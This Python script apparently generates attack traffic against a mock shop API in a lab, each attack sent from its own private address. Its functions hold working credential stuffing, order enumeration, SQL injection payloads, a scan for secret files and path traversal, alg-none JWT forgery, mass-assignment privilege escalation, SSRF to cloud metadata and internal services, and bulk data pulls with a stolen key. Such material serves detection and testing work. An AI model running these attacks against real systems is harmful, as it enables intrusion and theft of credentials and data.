"""The shop's attackers, each from an address of its own. usage: shop_attackers.py SECONDS SEED"""

from __future__ import annotations

import base64
import json
import random
import sys
import threading
import time
from typing import Any

import requests
from shop_users import SHOP, FromAddress, account

AGENT = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36"


def browser(address: str, agent: str = AGENT) -> requests.Session:
    session = requests.Session()
    session.headers.update({"User-Agent": agent, "Accept": "*/*"})
    session.mount("http://", FromAddress(address))
    return session


def log_in(session: requests.Session, name: str, number: int) -> dict[str, str]:
    token = session.post(f"{SHOP}/api/v1/login", json=account(name, number), timeout=20).json()["token"]
    return {"Authorization": f"Bearer {token}"}


def stuffing(address: str, dice: random.Random) -> None:
    """A list of leaked pairs, one try each, quicker than a person; one or two of them work."""
    session = browser(address)
    for number in range(70):
        pair = {"email": f"{dice.choice(['sam', 'alex', 'toni', 'robin', 'max', 'jo'])}{number}@{dice.choice(['mail.example', 'post.example'])}", "password": f"{dice.choice(['summer', 'dragon', 'letmein'])}{dice.randint(1, 999)}"}
        if number == 51:
            pair = account("kim", 11)
        session.post(f"{SHOP}/api/v1/login", json=pair, timeout=20)
        time.sleep(dice.uniform(0.08, 0.35))


def enumerate_orders(address: str, dice: random.Random) -> None:
    """Broken object level authorisation: one customer reads everybody's orders, one number after the other."""
    session = browser(address)
    seal = log_in(session, "mallory", 13)
    session.get(f"{SHOP}/api/v1/orders", headers=seal, timeout=20)
    for number in range(7002, 7062):
        session.get(f"{SHOP}/api/v1/orders/{number}", headers=seal, timeout=20)
        time.sleep(dice.uniform(0.1, 0.5))


def inject(address: str, dice: random.Random) -> None:
    """SQL injection as a script tries it: quotes, booleans, unions, the schema, stacked and timed queries; then the same in a JSON body."""
    session = browser(address, "sqlmap/1.8.4#stable (https://sqlmap.org)")
    tries = ["lamp'", "lamp' OR '1'='1", "lamp' AND 1=2-- -", "lamp%' AND 1=1-- -"]
    tries += [f"zz' UNION SELECT {','.join(['NULL'] * count)}-- -" for count in range(1, 6)]
    tries += ["zz' UNION SELECT name,sql,1,2 FROM sqlite_master-- -", "zz' UNION SELECT email,password,id,phone FROM users-- -", "zz'; SELECT pg_sleep(2)--", "zz' AND 4=LIKE('A',UPPER(HEX(RANDOMBLOB(1000))))-- -", "1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x7171,(SELECT 1)))s), 8446744073709551610, 1)))"]
    for text in tries:
        session.get(f"{SHOP}/api/v1/products", params={"q": text}, timeout=20)
        time.sleep(dice.uniform(0.2, 0.7))
    for text in ["' OR 1=1--", 'x" or sleep(3)#', "admin@example.com'/*"]:
        session.post(f"{SHOP}/api/v1/login", json={"email": text, "password": "x"}, timeout=20)
        time.sleep(dice.uniform(0.2, 0.7))


def scan(address: str, dice: random.Random) -> None:
    """Asks for what should not be there."""
    session = browser(address, "Mozilla/5.0 zgrab/0.x")
    names = [".env", ".git/config", ".git/HEAD", ".aws/credentials", ".DS_Store", "wp-login.php", "wp-admin/", "xmlrpc.php", "phpinfo.php", "server-status", "actuator", "actuator/env", "actuator/heapdump", "admin", "admin/login", "administrator", "backup.zip", "backup.sql", "db.sql", "dump.sql", "config.json", "config.php.bak", "web.config", "swagger.json", "swagger-ui.html", "openapi.json", "api-docs", "v2/api-docs", "graphql", "graphiql", "console", "jenkins/", "manager/html", "solr/admin/", "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "cgi-bin/test.cgi", "..%2f..%2f..%2fetc/passwd", "static/../../../../etc/passwd", "api/v2/users", "api/v1/admin", "api/v1/admin/users", "api/v1/keys", "api/v1/tokens", "api/v1/export", "api/v1/backup", "api/internal", "api/private", "api/v1/debug", "api/v1/config", "metrics", "trace", "heapdump", "id_rsa", ".ssh/id_rsa", "docker-compose.yml", "Dockerfile", ".htpasswd", "robots.txt", "sitemap.xml", "login.jsp", "owa/auth/logon.aspx", "telescope/requests", "_profiler/phpinfo", "debug/default/view"]
    for name in names:
        ready = requests.Request("GET", f"{SHOP}/", headers=dict(session.headers)).prepare()
        ready.url = f"{SHOP}/{name}"
        session.send(ready, timeout=20)
        time.sleep(dice.uniform(0.05, 0.25))


def forge(address: str, dice: random.Random) -> None:
    """A token that nobody signed: alg none, role admin."""
    session = browser(address, "python-requests/2.32")

    def part(value: Any) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()

    session.get(f"{SHOP}/api/v1/users/1", timeout=20)
    for algorithm in ("none", "None", "NONE"):
        token = part({"alg": algorithm, "typ": "JWT"}) + "." + part({"sub": "1", "role": "admin", "exp": 4102444800}) + "."
        for number in range(1, 5):
            session.get(f"{SHOP}/api/v1/users/{number}", headers={"Authorization": f"Bearer {token}"}, timeout=20)
            time.sleep(dice.uniform(0.3, 0.9))


def promote(address: str, dice: random.Random) -> None:
    """Mass assignment: a new customer who makes himself admin, with credit."""
    session = browser(address)
    new = {"email": "trent@mail.example", "password": "trent-pass-1", "name": "Trent"}
    session.post(f"{SHOP}/api/v1/register", json={**new, "role": "admin", "is_admin": True}, timeout=20)
    token = session.post(f"{SHOP}/api/v1/login", json={"email": new["email"], "password": new["password"]}, timeout=20).json()["token"]
    seal = {"Authorization": f"Bearer {token}"}
    for body in ({"name": "Trent", "role": "admin"}, {"role": "admin", "credit": 99999.0}, {"isAdmin": True, "permissions": ["*"], "role": "superuser"}):
        time.sleep(dice.uniform(0.4, 1.2))
        session.patch(f"{SHOP}/api/v1/users/me", json=body, headers=seal, timeout=20)


def fetch_inside(address: str, dice: random.Random) -> None:
    """Server-side request forgery: the shop fetches for the attacker."""
    session = browser(address)
    seal = log_in(session, "nils", 14)
    for url in ("http://169.254.169.254/latest/meta-data/iam/security-credentials/shop", "http://127.0.0.1:9000/internal/debug/vars", "http://localhost:22/", "file:///etc/passwd", "http://[::1]:9000/healthz", "http://2852039166/latest/meta-data/", "gopher://127.0.0.1:6379/_INFO"):
        session.post(f"{SHOP}/api/v1/webhooks/test", json={"url": url}, headers=seal, timeout=20)
        time.sleep(dice.uniform(0.5, 1.5))


def exfiltrate(address: str, dice: random.Random) -> None:
    """A stolen partner key, and reports a good deal larger than the partner ever took, a few seconds apart."""
    session = browser(address, "curl/8.5.0")
    session.headers.update({"X-API-Key": "pk_live_0d9b64e1a7c3f258", "Accept-Encoding": "identity"})
    for _ in range(5):
        session.get(f"{SHOP}/api/v1/reports/sales", params={"limit": 90}, timeout=20)
        time.sleep(dice.uniform(3, 5))


PLAN = [
    (10, stuffing, "10.20.66.10"),
    (14, enumerate_orders, "10.20.66.20"),
    (16, inject, "10.20.66.30"),
    (22, scan, "10.20.66.40"),
    (24, forge, "10.20.66.50"),
    (28, promote, "10.20.66.60"),
    (30, fetch_inside, "10.20.66.70"),
    (20, exfiltrate, "10.20.66.80"),
]


def main() -> None:
    seed = int(sys.argv[2])

    def later(delay: float, what: Any, address: str) -> None:
        time.sleep(delay)
        what(address, random.Random(f"{seed}/{address}"))

    workers = [threading.Thread(target=later, args=one) for one in PLAN]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()


if __name__ == "__main__":
    main()
